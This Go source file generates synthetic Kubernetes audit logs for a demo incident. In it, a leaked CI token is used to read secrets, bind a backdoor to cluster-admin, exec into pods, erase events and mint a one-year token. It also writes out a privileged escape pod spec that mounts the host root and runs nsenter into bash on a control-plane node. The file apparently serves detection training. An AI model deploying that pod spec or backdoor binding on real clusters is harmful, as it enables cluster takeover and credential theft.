package auditgen

import "time"

// The demo's incident. Normal traffic runs from 12:00 to 15:00 UTC on
// 2026-11-24; hidden in it:
//
//	13:41:07  recon: system:anonymous from 203.0.113.45 (Nmap, then curl)
//	          probes /version, /api, /apis, secrets and pods: 403s
//	13:43:30  a guessed bearer token from the same address: 401s
//	13:52:30  the CI deployer's leaked legacy token is used from
//	          203.0.113.45 with "python-requests/2.31.0": a
//	          SelfSubjectRulesReview, list namespaces, list nodes (403)
//	13:53:10  list secrets across all namespaces (RequestResponse: data)
//	13:53:40  get secret prod/db-credentials
//	13:56:12  create ClusterRoleBinding backdoor-admin: ci/deployer →
//	          cluster-admin
//	13:58:40  exec into prod/payments-7d9f8c6b5d-… (kubectl v1.30.2 from
//	          the same address), allowed by backdoor-admin; ends 14:02:51
//	14:04:02  create privileged pod kube-system/kube-proxy-helper (hostPID,
//	          hostNetwork, hostPath /, pinned to control-plane k8s-cp-01)
//	14:05:30  exec into it; the session's ResponseComplete is never logged
//	14:09:15  deletes two events in prod, then all of them (deletecollection)
//	14:12:00  audit gap: nothing at all is logged until 14:22:00
//	14:24:31  TokenRequest for ci/deployer valid one year (persistence)
//	14:25:10  get secret kube-system/etcd-backup-credentials
//
// DEMO.md tells the story with the filters that find each step.

// Demo parameters.
const (
	demoSeed     = 20261124
	demoRate     = 0.6 // events per second
	attackerIP   = "203.0.113.45"
	attackerUA   = "python-requests/2.31.0"
	attackerCtl  = "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350"
	backdoorCRB  = "backdoor-admin"
	helperPod    = "kube-proxy-helper"
	leakedSecret = "db-credentials"
)

// demoAt returns the µs timestamp of h:m:s.ms on the demo day.
func demoAt(h, m, s, ms int) int64 {
	return time.Date(2026, 11, 24, h, m, s, ms*1e6, time.UTC).UnixMicro()
}

// demoWindow returns the demo's start, end and audit gap.
func demoWindow() (start, end, gapFrom, gapTo int64) {
	return demoAt(12, 0, 0, 0), demoAt(15, 0, 0, 0), demoAt(14, 12, 0, 0), demoAt(14, 22, 0, 0)
}

// injectStory schedules the incident's requests.
func (g *Generator) injectStory() {
	c := g.c
	anon := &actor{user: c.anonUser, username: "system:anonymous", ip: attackerIP,
		ua: "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", human: true}
	curl := &actor{}
	*curl = *anon
	curl.ua = "curl/8.5.0"
	leaked := &actor{}
	*leaked = *c.deployer
	leaked.ip, leaked.ua = attackerIP, attackerUA
	ctl := &actor{}
	*ctl = *leaked
	ctl.ua = attackerCtl
	ctl.reason = crbReason(backdoorCRB, "cluster-admin", "ServiceAccount", "deployer/ci")
	g.storyRecon(anon, curl)
	g.storyTokenAbuse(leaked)
	g.storyEscalation(leaked, ctl)
	g.storyNormalCI()
}

// storyRecon is the anonymous reconnaissance and the 401s.
func (g *Generator) storyRecon(anon, curl *actor) {
	probe := func(t int64, a *actor, path string, res *resource, ns string) {
		verb := "get"
		if res != nil {
			verb = "list"
		}
		r := g.newReq(t, a, verb)
		if res != nil {
			r.res(*res, ns, "", "")
		} else {
			r.path(path)
		}
		if path == "/version" {
			r.reason = publicInfoReason
		} else {
			r.forbidden(a.username)
		}
		g.submit(r, g.rng.latency(600, 0.3))
	}
	probe(demoAt(13, 41, 7, 210), anon, "/version", nil, "")
	probe(demoAt(13, 41, 7, 930), anon, "/api", nil, "")
	probe(demoAt(13, 41, 8, 410), anon, "/apis", nil, "")
	probe(demoAt(13, 41, 9, 120), anon, "/.env", nil, "")
	probe(demoAt(13, 41, 12, 40), curl, "", &resNamespaces, "")
	probe(demoAt(13, 41, 13, 870), curl, "", &resSecrets, "kube-system")
	probe(demoAt(13, 41, 15, 300), curl, "", &resPods, "")
	for i, path := range []string{"/api/v1/namespaces/default/secrets", "/api/v1/namespaces/kube-system/secrets", "/apis/apps/v1/deployments"} {
		r := g.newReq(demoAt(13, 43, 30+2*i, 500), curl, "list")
		r.path(path)
		r.unauthorized()
		g.submit(r, g.rng.latency(400, 0.3))
	}
}

// storyTokenAbuse is the leaked CI token enumerating and reading secrets.
func (g *Generator) storyTokenAbuse(a *actor) {
	r := g.newReq(demoAt(13, 52, 30, 118), a, "create")
	r.res(resSSRRs, "", "", "")
	r.code, r.s1 = 201, ssrrResponse
	r.reqBody = func(dst []byte, r *request) []byte {
		return append(dst, `{"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","metadata":{"creationTimestamp":null},"spec":{"namespace":"ci"},"status":{"resourceRules":null,"nonResourceRules":null,"incomplete":false}}`...)
	}
	r.respBody = rawBody
	g.submit(r, 2100)

	r = g.newReq(demoAt(13, 52, 41, 602), a, "list")
	r.res(resNamespaces, "", "", "")
	g.submit(r, 3400)

	r = g.newReq(demoAt(13, 52, 55, 47), a, "list")
	r.res(resNodes, "", "", "")
	r.forbidden(a.username)
	g.submit(r, 900)

	r = g.newReq(demoAt(13, 53, 10, 331), a, "list")
	r.res(resSecrets, "", "", "")
	r.rv, r.i1 = g.rv, 14
	r.respBody = secretListBody
	g.submit(r, 48_200)

	r = g.newReq(demoAt(13, 53, 40, 914), a, "get")
	r.res(resSecrets, "prod", leakedSecret, "")
	r.rv, r.s1 = g.rv, "opaque"
	r.respBody = func(dst []byte, r *request) []byte { return secretBody(dst, r, true) }
	g.submit(r, 2600)
}

// ssrrResponse is the SelfSubjectRulesReview answer: the over-broad
// ci-deployer ClusterRole that made the rest possible.
const ssrrResponse = `{"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","metadata":{"creationTimestamp":null},"spec":{"namespace":"ci"},"status":{"resourceRules":[{"verbs":["create"],"apiGroups":["authorization.k8s.io"],"resources":["selfsubjectaccessreviews","selfsubjectrulesreviews"]},{"verbs":["get","list","watch","create","update","patch"],"apiGroups":[""],"resources":["secrets","configmaps","services","namespaces"]},{"verbs":["get","list","watch","create","update","patch","delete"],"apiGroups":["apps"],"resources":["deployments","replicasets","statefulsets"]},{"verbs":["*"],"apiGroups":["rbac.authorization.k8s.io"],"resources":["*"]}],"nonResourceRules":[{"verbs":["get"],"nonResourceURLs":["/api","/api/*","/apis","/apis/*","/healthz","/livez","/openapi","/openapi/*","/readyz","/version","/version/"]}],"incomplete":false}}`

// storyEscalation is the backdoor binding, the execs, the privileged pod,
// the cleanup, and what follows the audit gap.
func (g *Generator) storyEscalation(leaked, ctl *actor) {
	c := g.c
	r := g.newReq(demoAt(13, 56, 12, 740), leaked, "create")
	r.res(resCRBs, "", backdoorCRB, "")
	r.code, r.rv, r.s1, r.s2 = 201, g.rv+211, "cluster-admin", "ci/deployer"
	r.reqBody = func(dst []byte, r *request) []byte { return crbBody(dst, r, false) }
	r.respBody = func(dst []byte, r *request) []byte { return crbBody(dst, r, true) }
	g.submit(r, 7300)

	p := c.byName["prod/payments"].pods[0]
	r = g.newReq(demoAt(13, 58, 40, 205), ctl, "create")
	r.res(resPods, "prod", p.name, "exec").query("command=%2Fbin%2Fsh&container=payments&stdin=true&stdout=true&tty=true")
	r.level, r.code = levelMetadata, 101
	r.longRunning()
	g.submit(r, demoAt(14, 2, 51, 377)-demoAt(13, 58, 40, 205))

	cp := c.nodes[0]
	r = g.newReq(demoAt(14, 4, 2, 96), ctl, "create")
	r.res(resPods, "kube-system", helperPod, "").query("fieldManager=kubectl-run")
	r.code, r.rv, r.n = 201, g.rv+388, cp
	r.podSec = "privileged:latest"
	r.reqBody = func(dst []byte, r *request) []byte { return privilegedPodBody(dst, r, false) }
	r.respBody = func(dst []byte, r *request) []byte { return privilegedPodBody(dst, r, true) }
	g.submit(r, 11_800)

	r = g.newReq(demoAt(14, 5, 30, 512), ctl, "create")
	r.res(resPods, "kube-system", helperPod, "exec").query("command=bash&container=shell&stdin=true&stdout=true&tty=true")
	r.level, r.code = levelMetadata, 101
	r.longRunning()
	g.submit(r, demoAt(14, 16, 3, 0)-demoAt(14, 5, 30, 512)) // completes inside the gap: never logged

	for i, name := range []string{p.name + ".18b2f0c4a1d93e57", p.name + ".18b2f0c4a1f0b2c9"} {
		r = g.newReq(demoAt(14, 9, 15+3*i, 33), ctl, "delete")
		r.res(resEvents, "prod", name, "")
		r.level = levelRequest
		r.reqBody = deleteOptionsBody
		g.submit(r, 1900)
	}
	r = g.newReq(demoAt(14, 9, 24, 870), ctl, "deletecollection")
	r.res(resEvents, "prod", "", "")
	r.level = levelRequest
	r.reqBody = deleteOptionsBody
	g.submit(r, 38_400)

	r = g.newReq(demoAt(14, 24, 31, 662), ctl, "create")
	r.res(resServiceAccts, "ci", "deployer", "token")
	r.code, r.i1, r.s2 = 201, 31_536_000, newUUID(&g.rng)
	r.issued = "JTI=" + r.s2
	r.reqBody, r.respBody = tokenRequestBody, tokenResponseBody
	g.submit(r, 4100)

	r = g.newReq(demoAt(14, 25, 10, 129), ctl, "get")
	r.res(resSecrets, "kube-system", "etcd-backup-credentials", "")
	r.rv, r.s1 = g.rv+901, "opaque"
	r.respBody = func(dst []byte, r *request) []byte { return secretBody(dst, r, true) }
	g.submit(r, 2300)
}

// storyNormalCI is the deployer's legitimate use of its token, for contrast.
func (g *Generator) storyNormalCI() {
	g.ciDeploy(demoAt(12, 31, 40, 0))
	g.ciDeploy(demoAt(13, 18, 5, 0))
	g.ciDeploy(demoAt(14, 41, 52, 0))
}

// privilegedPodBody appends the attacker's privileged pod with the host's
// root filesystem mounted, pinned to control-plane node r.n.
func privilegedPodBody(dst []byte, r *request, resp bool) []byte {
	dst = append(dst, `{"kind":"Pod","apiVersion":"v1",`...)
	if resp {
		dst = appendMeta(dst, helperPod, "kube-system", stableUID("pod/"+helperPod), r.rv, r.recv)
		dst = append(dst, `,"generation":1,"labels":{"run":"kube-proxy-helper"},"managedFields":[`...)
		dst = appendManaged(dst, "kubectl-run", "Update", "v1", r.recv, "",
			`{"f:metadata":{"f:labels":{".":{},"f:run":{}}},"f:spec":{"f:containers":{"k:{\"name\":\"shell\"}":{".":{},"f:command":{},"f:image":{},"f:name":{},"f:securityContext":{".":{},"f:privileged":{}},"f:stdin":{},"f:tty":{},"f:volumeMounts":{".":{},"k:{\"mountPath\":\"/host\"}":{".":{},"f:mountPath":{},"f:name":{}}}}},"f:hostNetwork":{},"f:hostPID":{},"f:nodeName":{},"f:tolerations":{},"f:volumes":{".":{},"k:{\"name\":\"host\"}":{".":{},"f:hostPath":{".":{},"f:path":{},"f:type":{}},"f:name":{}}}}}`)
		dst = append(dst, `]},`...)
	} else {
		dst = append(dst, `"metadata":{"name":"kube-proxy-helper","namespace":"kube-system","creationTimestamp":null,"labels":{"run":"kube-proxy-helper"}},`...)
	}
	dst = append(dst, `"spec":{"volumes":[{"name":"host","hostPath":{"path":"/","type":""}}],"containers":[{"name":"shell","image":"docker.io/library/alpine:3.20","command":["nsenter","--target","1","--mount","--uts","--ipc","--net","--pid","--","bash"],"resources":{},"volumeMounts":[{"name":"host","mountPath":"/host"}],"terminationMessagePath":"/dev/termination-log","terminationMessagePolicy":"File","imagePullPolicy":"IfNotPresent","securityContext":{"privileged":true},"stdin":true,"tty":true}],"restartPolicy":"Never","terminationGracePeriodSeconds":30,"dnsPolicy":"ClusterFirst","nodeName":`...)
	dst = appendStr(dst, r.n.name)
	dst = append(dst, `,"hostNetwork":true,"hostPID":true,"securityContext":{},"schedulerName":"default-scheduler","tolerations":[{"operator":"Exists"}],"enableServiceLinks":true`...)
	if resp {
		dst = append(dst, `,"serviceAccountName":"default","serviceAccount":"default","priority":0,"preemptionPolicy":"PreemptLowerPriority"},"status":{"phase":"Pending","qosClass":"BestEffort"}}`...)
		return dst
	}
	return append(dst, `},"status":{}}`...)
}
